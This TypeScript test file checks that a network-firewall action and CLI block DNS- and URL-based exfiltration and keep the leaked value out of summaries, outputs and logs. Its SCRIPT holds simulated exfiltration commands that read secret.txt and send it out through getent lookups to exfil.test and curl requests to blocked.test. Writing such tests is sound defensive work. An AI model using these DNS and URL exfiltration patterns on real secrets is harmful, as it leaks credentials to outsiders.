/**
 * The report is not an exfiltration channel (docs/threat-model.md, T7): a command that hides
 * data in the names it looks up, and in a URL's path and query, must not get that data
 * printed where the workflow's readers (often the public) see it: the job summary, the
 * annotations, the outputs, the step log and the CLI's report. Scored by the lab's rules: the
 * positive control (report-detail full) shows the channel exists without the protection; the
 * attempts are reported (counted under their domain; full names in events.jsonl); they were
 * blocked for the right reason (the DNS forwarder and Squid).
 */
import { randomBytes } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { runAction, type ActionRun } from '../helpers/action.js'
import { runCli } from '../helpers/cli.js'
import { ensureLab, LAB_RESOLVER, leftovers } from '../helpers/lab.js'
import { describeWith } from '../helpers/require-tool.js'

/** Hex, as an encoder would produce: never a plausible host label. */
const SECRET = `7${randomBytes(9).toString('hex')}`

/** The data comes from a file in the workspace, as a secret would: never in the script. */
const SCRIPT = [
  'S=$(cat secret.txt)',
  'getent hosts "$S.exfil.test" || true',
  'getent hosts "$S-2.exfil.test" || true',
  'curl -s -o /dev/null "http://$S.blocked.test/"',
  'curl -s -o /dev/null "http://blocked.test/$S-path?q=$S"'
].join('\n')

/** The step log without the command's own output (between the stop-commands markers). */
function ownLog(stdout: string): string {
  return stdout.replace(/::stop-commands::([0-9a-f]{32})\n[\s\S]*?\n::\1::/, '')
}

/** The run succeeded, or its log tail says why not. */
function expectSucceeded(run: { code: number; stdout: string; stderr: string }): void {
  if (run.code !== 0)
    throw new Error(`exit ${run.code}:\n${run.stdout.slice(-1500)}\n${run.stderr.slice(-1500)}`)
}

const output = (run: ActionRun, name: string): string =>
  new RegExp(`^${name}<<(\\S+)\\n([\\s\\S]*?)\\n\\1$`, 'm').exec(run.outputs)?.[2] ?? ''

describeWith({ root: true, docker: true }, 'the report is not an exfiltration channel', () => {
  let dir: string
  let hidden: ActionRun
  let full: ActionRun

  beforeAll(async () => {
    ensureLab()
    dir = mkdtempSync(join(tmpdir(), 'awf-privacy-'))
    writeFileSync(join(dir, 'secret.txt'), SECRET)
    const inputs = { 'allow-domains': 'allowed.test', 'dns-servers': LAB_RESOLVER, run: SCRIPT }
    hidden = await runAction('main', inputs, dir)
    full = await runAction('main', { ...inputs, 'report-detail': 'full' }, dir)
  })

  afterAll(() => rmSync(dir, { recursive: true, force: true }))

  test('positive control: with report-detail full the names reach the summary and outputs', () => {
    expectSucceeded(full)
    expect(full.summary).toContain(`${SECRET}.exfil.test`)
    expect(output(full, 'blocked-domains')).toContain(`${SECRET}.blocked.test`)
  })

  test('domains: not in the summary, annotations, outputs or step log; never a path or query', () => {
    expectSucceeded(hidden)
    for (const place of [hidden.summary, hidden.outputs, ownLog(hidden.stdout), hidden.stderr])
      expect(place).not.toContain(SECRET)
    // Paths and queries are never read from the logs, whatever the detail.
    for (const place of [full.summary, full.outputs, ownLog(full.stdout)])
      expect(place).not.toContain(`${SECRET}-path`)
  })

  test('reported: counted under their domain, blocked by the right layer, full in events.jsonl', () => {
    expect(hidden.summary).toMatch(/<code>exfil\.test<\/code> \(2 names hidden\) \| 53 \| dns \|/)
    expect(hidden.summary).toMatch(/<code>blocked\.test<\/code> \| 80 \| proxy \|/)
    expect(JSON.parse(output(hidden, 'blocked-domains'))).toEqual(
      expect.arrayContaining(['exfil.test', 'blocked.test'])
    )
    expect(hidden.stdout).toMatch(
      /::warning title=awf-action blocked exfil\.test \(2 names hidden\)::/
    )
    const events = readFileSync(join(output(hidden, 'logs-dir'), 'events.jsonl'), 'utf8')
    expect(events).toContain(`"target":"${SECRET}.exfil.test"`)
    expect(events).toContain(`"target":"${SECRET}-2.exfil.test"`)
  })

  test("the CLI's report on stderr follows the same rule", async () => {
    const r = await runCli(
      [
        'run',
        '--allow-domains',
        'allowed.test',
        '--dns-servers',
        LAB_RESOLVER,
        '--',
        'bash',
        '-c',
        SCRIPT
      ],
      dir
    )
    expectSucceeded(r)
    expect(r.stderr).toMatch(/BLOCKED {2}exfil\.test \(2 names hidden\)/)
    expect(r.stderr).not.toContain(SECRET)
    expect(leftovers()).toEqual([])
  })
})
